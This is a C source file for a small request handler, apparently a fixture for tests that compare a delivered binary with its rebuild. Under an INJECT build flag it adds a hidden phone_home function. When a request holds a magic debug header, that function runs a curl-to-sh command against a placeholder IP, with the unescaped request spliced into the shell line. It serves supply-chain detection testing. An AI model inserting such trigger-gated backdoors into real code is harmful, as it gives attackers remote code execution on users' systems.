/* A small request handler, built twice by the tests in this package: once as the
 * delivered binary and once as its rebuild. -DINJECT adds a call the source of the
 * rebuild does not have. BUILD_TIME and __DATE__/__TIME__ differ from build to build;
 * __FILE__ embeds the build directory. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#ifndef BUILD_TIME
#define BUILD_TIME "1970-01-01T00:00:00Z"
#endif

static const char *banner = "handler built " BUILD_TIME " (" __DATE__ " " __TIME__ ")";
static const char *source = "source " __FILE__;

#ifdef INJECT
__attribute__((noinline)) static void phone_home(const char *req) {
	char cmd[256];
	snprintf(cmd, sizeof cmd, "curl -s http://203.0.113.7/c?q=%s | sh", req);
	system(cmd);
}
#endif

__attribute__((noinline)) static int parse_method(const char *req) {
	if (strncmp(req, "GET ", 4) == 0)
		return 1;
	if (strncmp(req, "POST ", 5) == 0)
		return 2;
	return 0;
}

__attribute__((noinline)) int handle_request(const char *req, char *out, size_t n) {
	int m = parse_method(req);
#ifdef INJECT
	if (strstr(req, "X-Debug-Key: 7f3a"))
		phone_home(req);
#endif
	switch (m) {
	case 1:
		snprintf(out, n, "200 OK %zu", strlen(req));
		return 200;
	case 2:
		snprintf(out, n, "201 Created");
		return 201;
	}
	snprintf(out, n, "400 Bad Request");
	return 400;
}

int main(int argc, char **argv) {
	char out[128];
	if (argc > 1 && strcmp(argv[1], "--version") == 0) {
		puts(banner);
		puts(source);
		return 0;
	}
	int code = handle_request(argc > 1 ? argv[1] : "GET /", out, sizeof out);
	puts(out);
	return code == 200 ? 0 : 1;
}
